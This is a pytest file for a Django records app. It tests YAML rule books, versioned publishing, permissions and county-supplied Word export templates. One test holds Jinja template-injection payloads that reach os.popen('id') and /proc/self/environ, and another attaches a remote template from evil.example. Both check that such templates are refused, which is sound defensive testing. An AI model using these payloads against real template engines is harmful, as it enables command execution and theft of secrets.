"""Rule books: shipped ones are whole, bad ones are refused by place, published ones are frozen."""

from __future__ import annotations

import io
from datetime import date, timedelta

import docx
import pytest
import yaml
from django.test import Client

from taizhang.documents.lists import Column, ListSheet
from taizhang.kit.errors import BadInput, NotAllowed, Refused
from taizhang.people.models import Account
from taizhang.rulebook.actions import publish_book, publish_layout
from taizhang.rulebook.books import read_book, shipped
from taizhang.rulebook.models import Book, Layout
from taizhang.rulebook.selectors import duty_book_name, layout_at, terms_on, trial_of, word_file
from tests.cast import AT, County


@pytest.mark.once
@pytest.mark.parametrize(
    ("name", "least"),
    [("duties-organ", 26), ("duties-township", 33), ("duties-village", 33), ("duties-urban", 12), ("duties-firms", 12)],
)
def test_shipped_duty_lists(name: str, least: int) -> None:
    duties = shipped()[name].body["duties"]
    assert len(duties) >= least and len({duty["key"] for duty in duties}) == len(duties)


@pytest.mark.once
def test_every_kind_of_unit_finds_its_duty_list() -> None:
    assert (
        duty_book_name("township", "rural") == "duties-township" and duty_book_name("branch", "new") == "duties-firms"
    )
    assert duty_book_name("branch", "rural") == "duties-village" and duty_book_name("branch", "urban") == "duties-urban"
    assert (
        duty_book_name("work_committee", "organ") == "duties-organ"
        and duty_book_name("branch", "school") == "duties-organ"
    )


BAD = {
    "not yaml: [": "读不出来",
    "a: 1": "kind",
    "kind: duties": "不合规定",
    "[]": "kind",
    "": "kind",
    "book: x-y\nversion: '1'\nkind: duties\ntitle: t\nin_force_from: '2026-13-45'\nbody: {unit_kinds: [a]}": "不合规定",
}


@pytest.mark.once
@pytest.mark.parametrize(("text", "words"), BAD.items())
def test_bad_books_are_refused_by_place(text: str, words: str) -> None:
    with pytest.raises(BadInput, match=words):
        read_book(text)


def near(days: int, version: str, start: str) -> str:
    raw = yaml.safe_load(shipped()["problem-terms"].text)
    raw["version"], raw["in_force_from"], raw["body"]["lateness"]["near_days"] = version, start, days
    return str(yaml.safe_dump(raw, allow_unicode=True))


def test_a_published_version_is_in_force_from_its_day_and_frozen(county: County) -> None:
    publish_book(actor=county.who("sys"), at=AT, text=near(3, "2026.7", "2026-07-01"))
    assert terms_on(date(2026, 6, 30))["lateness"]["near_days"] == 7
    assert terms_on(date(2026, 7, 1))["lateness"]["near_days"] == 3
    with pytest.raises(Refused, match="不能再改"):
        publish_book(actor=county.who("sys"), at=AT, text=near(4, "2026.7", "2026-07-01"))
    with pytest.raises(Refused, match="请换"):
        publish_book(actor=county.who("sys"), at=AT, text=near(4, "2026.8", "2026-07-01"))
    with pytest.raises(NotAllowed):
        publish_book(actor=county.who("ma"), at=AT, text=near(4, "2026.9", "2026-09-01"))
    assert Book.unscoped.count() == 1


def template(*lines: str) -> bytes:
    """A .docx template: a line a paragraph, then a table whose middle row repeats."""
    page = docx.Document()
    for line in lines:
        page.add_paragraph(line)
    table = page.add_table(rows=4, cols=2)
    cells = (("编号", "问题"), ("{%tr for row in rows %}", ""), ("{{ row.number }}", "{{ row.title }}"))
    for row, texts in enumerate((*cells, ("{%tr endfor %}", ""))):
        for column, text in enumerate(texts):
            table.cell(row, column).text = text
    out = io.BytesIO()
    page.save(out)
    return out.getvalue()


def words_in(content: bytes) -> str:
    page = docx.Document(io.BytesIO(content))
    texts = [one.text for one in page.paragraphs]
    return "\n".join(texts + [cell.text for table in page.tables for row in table.rows for cell in row.cells])


def test_a_list_goes_out_in_the_countys_own_template(county: County, client: Client) -> None:
    code = county.problem(title="A<b>&“三会一课”记录不全")
    page = f"/export/problem-list/docx/?unit={county.unit('东坡村党支部')}"
    client.force_login(Account.unscoped.get(username="cheng"), backend="django.contrib.auth.backends.ModelBackend")
    ours = client.get(page)
    given = ("本县.docx", template("{{ title }}（本县样式）"))
    publish_layout(actor=county.who("sys"), at=AT, list_name="problem-list", file=given)
    own = words_in(client.get(page).content)
    assert "（本县样式）" in own and code in own and "A<b>&“三会一课”记录不全" in own
    assert "（本县样式）" not in words_in(ours.content)


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("{{ titel }}", "titel"),
        ("{% for x in %}", "填不出来"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "填不出来"),
        ("{{ qr.tpl.write_xml('/tmp/taizhang-written') }}", "填不出来"),
        ("{{ qr.tpl.replace_zipname('word/styles.xml', '/proc/self/environ') or '' }}", "填不出来"),
        ("{{ qr|attr('tpl') }}", "填不出来"),
        ("{{ rows[0].title }}", "填不出来"),
        ("{{ lipsum(100000) }}", "填不出来"),
        ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "填不出来"),
    ],
)
def test_a_bad_or_hostile_template_is_refused_and_changes_nothing(county: County, line: str, words: str) -> None:
    with pytest.raises(BadInput, match=words):
        publish_layout(actor=county.who("sys"), at=AT, list_name="problem-list", file=("模板.docx", template(line)))
    assert not Layout.unscoped.exists()


def test_a_template_that_reaches_out_is_refused(county: County) -> None:
    page = docx.Document(io.BytesIO(template("{{ title }}")))
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    page.part._settings_part.relate_to("http://evil.example/x.dotm", kind, is_external=True)
    out = io.BytesIO()
    page.save(out)
    with pytest.raises(BadInput, match="外部链接"):
        publish_layout(actor=county.who("sys"), at=AT, list_name="problem-list", file=("模板.docx", out.getvalue()))


def test_a_template_that_writes_no_rows_is_refused(county: County) -> None:
    page, out = docx.Document(), io.BytesIO()
    page.add_paragraph("{{ title }}，别的什么也没有")
    page.save(out)
    with pytest.raises(BadInput, match="没有写清单各行"):
        publish_layout(actor=county.who("sys"), at=AT, list_name="problem-list", file=("模板.docx", out.getvalue()))


def test_a_template_that_no_longer_fits_gives_way_and_says_so(county: County) -> None:
    given = ("本县.docx", template("{{ title }}", "{% for row in rows %}{{ row.found }}{% endfor %}"))
    publish_layout(actor=county.who("sys"), at=AT, list_name="problem-list", file=given)
    sheet = ListSheet("问题清单", [Column("编号", key="number")], [["P26-00001"]])
    assert "按本系统的版式输出" in words_in(word_file("problem-list", AT, sheet))


def test_an_administrator_hears_numbers_of_a_trial_the_office_words(county: County) -> None:
    county.problem(category="某人的名字")
    terms = shipped()["problem-terms"]
    assert "某人的名字" in str(trial_of(county.who("cheng"), terms))
    assert "某人的名字" not in str(trial_of(county.who("sys"), terms))
    with pytest.raises(NotAllowed):
        trial_of(county.who("ma"), terms)


def test_templates_are_the_keepers_and_can_be_taken_back(county: County) -> None:
    given = ("模板.docx", template("{{ title }}"))
    with pytest.raises(NotAllowed):
        publish_layout(actor=county.who("ma"), at=AT, list_name="problem-list", file=given)
    with pytest.raises(BadInput, match="没有叫"):
        publish_layout(actor=county.who("sys"), at=AT, list_name="no-list", file=given)
    with pytest.raises(BadInput, match="docx"):
        publish_layout(actor=county.who("sys"), at=AT, list_name="problem-list", file=("模板.doc", b"x"))
    publish_layout(actor=county.who("sys"), at=AT, list_name="problem-list", file=given)
    assert layout_at("problem-list", AT) and not layout_at("task-list", AT)
    later = AT + timedelta(hours=1)
    publish_layout(actor=county.who("sys"), at=later, list_name="problem-list")
    assert layout_at("problem-list", AT) and not layout_at("problem-list", later)


def test_a_draft_is_kept_tried_and_only_then_published(county: County, client: Client) -> None:
    county.problem(category="没有的类别")
    client.force_login(Account.unscoped.get(username="sys"), backend="django.contrib.auth.backends.ModelBackend")
    text = near(3, "2026.7", "2026-07-01")
    client.post("/books/", {"do": "draft", "text": text})
    client.post("/books/", {"do": "draft", "text": text.replace("near_days: 3", "near_days: 30")})
    kept = Book.unscoped.get()
    assert kept.state == "draft" and "near_days: 30" in kept.text
    assert terms_on(date(2026, 7, 2))["lateness"]["near_days"] == 7
    tried = client.post("/books/", {"do": "try", "text": kept.text}).content.decode()
    assert "新字典里没有的类别：1" in tried and "只是试算" in tried
    assert Book.unscoped.get().state == "draft"
    assert "near_days: 30" in client.get("/books/?draft=problem-terms&version=2026.7").content.decode()
    client.post("/books/", {"do": "publish", "text": kept.text})
    assert Book.unscoped.get().state == "published" and terms_on(date(2026, 7, 2))["lateness"]["near_days"] == 30


@pytest.mark.once
@pytest.mark.parametrize("name", ["problem-terms", "list-columns", "duties-village"])
def test_every_kind_of_book_can_be_tried(county: County, name: str) -> None:
    county.problem()
    said = trial_of(county.who("cheng"), shipped()[name])
    assert len(said) >= 3 and all(sentence.format(**facts) for sentence, facts in said)


@pytest.mark.once
@pytest.mark.parametrize(
    ("book", "was", "now", "where"),
    [
        ("ladder", "key: urge", "key: remind", "rungs"),
        ("ladder", "{year}", "{yeer}", "number"),
        ("ladder", "after_workdays: -3", "after_workdays: 9", "after_workdays"),
        ("grades", "cap: fairly", "cap: splendid", "caps → cap"),
        ("grades", "ties: [ballot, daily]", "ties: [weather]", "ties"),
        ("grades", "floor: 85", "floor: 65", "floor"),
        ("appraisal", "key: fair,", "key: good,", "options"),
        ("debrief", "key: own_lists", "key: lists", "follow_ups"),
    ],
)
def test_a_book_whose_keys_clash_is_refused_with_the_place(book: str, was: str, now: str, where: str) -> None:
    text = shipped()[book].text
    assert was in text
    with pytest.raises(BadInput) as refused:
        read_book(text.replace(was, now, 1))
    assert where in str(refused.value)
